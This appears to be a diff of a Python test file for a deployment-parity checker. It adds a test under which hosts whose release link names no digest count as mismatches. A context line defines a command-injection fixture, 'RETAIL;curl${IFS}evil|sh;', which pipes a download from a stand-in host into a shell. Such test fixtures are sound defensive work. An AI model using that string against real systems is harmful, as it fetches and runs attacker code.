@@ -357,6 +357,15 @@ def test_a_time_that_no_calendar_has_is_that_host_s_fault(since: str) -> None:
 
 
 _LOCK = "token 1 holder me purpose deploy plan ab since {}"
+@pytest.mark.parametrize("odd", [1, 8])
+def test_p1_a_link_that_names_no_digest_is_a_mismatch_and_ends_nothing(odd: int) -> None:
+    strange = {name: replace(good(name), current="releases/by-hand") for name in NAMES[:odd]}
+    seen = {name: strange.get(name, good(name)) for name in NAMES}
+    taken = judge(rendered().inventory, seen, shown_manifest(seen))
+    assert taken.parity is not Parity.PARITY
+    assert {v.host for v in taken.hosts if v.verdict is not Verdict.MATCH} == set(strange)
+
+
 EVIL = "RETAIL;curl${IFS}evil|sh;"
 
 
